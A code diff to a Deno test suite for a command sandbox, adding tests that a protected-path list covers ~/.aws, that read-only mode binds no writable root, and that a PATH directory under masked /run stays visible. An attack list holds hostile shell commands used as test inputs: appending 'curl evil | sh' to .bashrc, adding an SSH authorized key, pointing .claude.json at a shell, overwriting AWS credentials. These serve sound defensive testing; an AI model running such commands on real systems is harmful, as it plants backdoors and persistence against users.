@@ -315,6 +315,8 @@ for (const [who, as] of [["root", undefined], ["an unprivileged user", NOBODY]] 
       const attacks = [
         `echo '{"mcpServers":{"x":{"command":"sh"}}}' > .claude.json`,
         "mkdir -p .ssh && echo key >> .ssh/authorized_keys",
+        // A generated mutant emptying ".aws" in HOME_PROTECTED_PATHS survived: no sandbox test named it.
+        "mkdir -p .aws && echo '[default]' > .aws/credentials",
         "echo 'curl evil | sh' >> .bashrc",
         "mkdir -p .config/fish && echo x > .config/fish/config.fish",
         // With ~/.config missing, .config/fish's placeholder (bound on ~/.config) would cover this too;
@@ -378,4 +380,40 @@ Deno.test("isWithinPath() holds the root itself and what lies below it, and / ho
   assert.equal(isWithinPath("/work/ws", "/work/ws/sub/.git"), true);
   assert.equal(isWithinPath("/", "/work/ws2"), true);
   assert.equal(isWithinPath("/work/ws/sub", "/work/ws"), false);
+});
+
+// #26 item 4, a generated survivor (sandbox_profile.ts boundRoots' mode check): read-only mode
+// keeps every root read-only even when the policy still lists writable roots (a session switched
+// by `/sandbox read-only` keeps its configured roots); workspace-write, the neighbour, binds them.
+Deno.test("sandboxArgv() in read-only mode binds no writable root read-write, though the policy lists them", async () => {
+  const box = await makeBox();
+  try {
+    const script = `(echo x > ${box.ws}/made) 2>/dev/null && echo written || echo held`;
+    const readOnly = await runInSandbox(policyFor(box, { mode: "read-only" }), script);
+    assert.equal(readOnly.stdout, "held\n", readOnly.stderr);
+    assert.equal(await platform.fs.stat(`${box.ws}/made`), null);
+    const writable = await runInSandbox(policyFor(box), script);
+    assert.equal(writable.stdout, "written\n", writable.stderr);
+  } finally {
+    await removeBox(box);
+  }
+});
+
+// #26 item 4, a generated survivor (sandbox_profile.ts maskOptions' `env.PATH`): /run is hidden
+// under an empty tmpfs, except a directory the command's PATH names (NixOS's /run/wrappers/bin).
+Deno.test("sandboxArgv() keeps a PATH directory under the masked /run visible, and only that one", async () => {
+  const box = await makeBox();
+  const dir = `/run/trellis-path-test-${crypto.randomUUID().slice(0, 8)}`;
+  try {
+    await platform.fs.mkdir(`${dir}/bin`);
+    await platform.fs.mkdir(`${dir}/other`);
+    await platform.fs.writeTextFile(`${dir}/other/x`, "x");
+    const script =
+      `ls ${dir}/bin >/dev/null 2>&1 && echo bin seen; ls ${dir}/other/x >/dev/null 2>&1 && echo other seen; true`;
+    const named = await runInSandbox(policyFor(box, { env: { PATH: `${dir}/bin:/usr/bin:/bin` } }), script);
+    assert.equal(named.stdout, "bin seen\n", named.stderr);
+  } finally {
+    await platform.fs.remove(dir, { recursive: true }).catch(() => {});
+    await removeBox(box);
+  }
 });
